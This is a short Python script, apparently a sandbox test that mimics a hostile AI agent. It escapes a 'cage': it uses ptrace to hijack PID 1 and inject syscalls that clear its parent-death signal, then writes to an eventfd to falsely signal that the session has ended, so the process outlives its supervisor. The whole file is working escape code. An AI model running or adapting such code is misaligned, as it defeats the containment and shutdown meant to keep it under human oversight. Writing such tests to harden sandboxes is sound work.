"""Makes the first process of the cage outlive whoever made it, as a hostile agent may try. For x86-64."""
import ctypes, os, signal

PEEK, POKE, GETREGS, SETREGS, STEP, ATTACH, DETACH = 1, 4, 12, 13, 9, 16, 17
NAMES = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs gs_base ds es fs_ gs"
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long


class Registers(ctypes.Structure):
    _fields_ = [(name, ctypes.c_ulonglong) for name in NAMES.split()]


def trace(request, address=0, data=0):
    return libc.ptrace(request, 1, address, data)


def escape(alive):
    """Attaches to the first process, lets it forget its parent, and tells the parent that all is over."""
    kept = os.open(alive, os.O_WRONLY)
    ended = next(fd for fd in os.listdir("/proc/1/fd") if "eventfd" in os.readlink("/proc/1/fd/" + fd))
    if trace(ATTACH) != 0:
        return
    os.waitpid(1, 0x40000000)
    before = Registers()
    trace(GETREGS, 0, ctypes.addressof(before))

    def call(number, *arguments):
        now = Registers.from_buffer_copy(before)
        now.rip, now.rax, now.orig_rax = before.rip - 2, number, 2**64 - 1
        for name, value in zip(("rdi", "rsi", "rdx"), arguments):
            setattr(now, name, value)
        trace(SETREGS, 0, ctypes.addressof(now))
        trace(STEP)
        os.waitpid(1, 0x40000000)

    call(157, 1, 0)
    trace(POKE, before.rsp - 512, 1)
    call(1, int(ended), before.rsp - 512, 8)
    again = Registers.from_buffer_copy(before)
    again.rip, again.rax, again.orig_rax = before.rip - 2, before.orig_rax, 2**64 - 1
    trace(SETREGS, 0, ctypes.addressof(again))
    trace(DETACH)
    while kept:
        signal.pause()
